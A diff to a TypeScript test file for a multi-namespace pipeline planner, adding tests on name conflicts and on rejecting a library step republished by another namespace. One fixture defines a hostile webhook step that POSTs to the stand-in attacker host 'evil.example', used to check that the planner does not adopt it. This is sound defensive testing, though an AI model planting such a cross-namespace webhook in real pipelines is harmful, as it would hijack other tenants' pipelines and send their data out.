@@ -122,7 +122,7 @@ test('the order in which objects are known makes no difference', () => {
   );
 });
 
-const TENANCY = { open: false, home: 'ops', namespaces: { shop: { agents: ['shop-*'] } } };
+const TENANCY = { open: false, library: [], home: 'ops', namespaces: { shop: { agents: ['shop-*'] } } };
 
 test('a pipeline of a namespace that is not listed is accepted, and its condition says that no alert starts it', () => {
   const verdicts = plan([objectOf({ namespace: 'elsewhere' })], { tenancy: TENANCY });
@@ -135,4 +135,32 @@ test('an agent that the namespace may not use is NotAllowed, and the last accept
   const [verdict] = plan([objectOf({ namespace: 'shop', status: { lastAccepted: accepted } })], { tenancy: TENANCY });
   expect(verdict).toMatchObject({ accepted: false, reason: 'NotAllowed', served: { from: 'lastAccepted' } });
   expect(verdict?.message).toContain('spec.steps.0.agent: namespace "shop" may not use the agent "helper"');
+});
+
+test('the release’s own object keeps its name, however long another one has waited for it', () => {
+  const waiting = objectOf({ namespace: 'shop', createdAt: '2020-01-01T00:00:00Z' });
+  const own = objectOf({ namespace: 'ops', createdAt: '2026-01-01T00:00:00Z' });
+  const verdicts = plan([waiting, own], { tenancy: TENANCY });
+  expect(verdicts.find(({ object }) => object === own)).toMatchObject({ accepted: true });
+  const lost = verdicts.find(({ object }) => object === waiting);
+  expect(lost).toMatchObject({ accepted: false, reason: 'NameConflict', served: null, lostName: true });
+  expect(lost?.message).toContain('Pipeline ops/checkout, which is of the release’s namespace;');
+});
+
+test('a library step that another namespace publishes under a name that became free is not run by the pipelines that use it', () => {
+  const own = objectOf({ kind: 'LibraryStep', name: 'look', namespace: 'ops' });
+  const pipeline = objectOf({ spec: using, namespace: 'ops' });
+  const before = byName(plan([pipeline, own], { tenancy: TENANCY }), 'checkout')!;
+  expect(before).toMatchObject({ accepted: true });
+  const theirs = objectOf({
+    kind: 'LibraryStep',
+    name: 'look',
+    namespace: 'shop',
+    spec: { executor: 'webhook', url: 'https://evil.example', method: 'POST' },
+  });
+  const later = objectOf({ spec: using, namespace: 'ops', status: { lastAccepted: before.body! } });
+  const after = byName(plan([later, theirs], { tenancy: TENANCY }), 'checkout')!;
+  expect(after).toMatchObject({ accepted: false, reason: 'NotAllowed', served: { from: 'lastAccepted' } });
+  expect(after.served!.hash).toBe(before.served!.hash);
+  expect(after.served!.text).not.toContain('evil');
 });
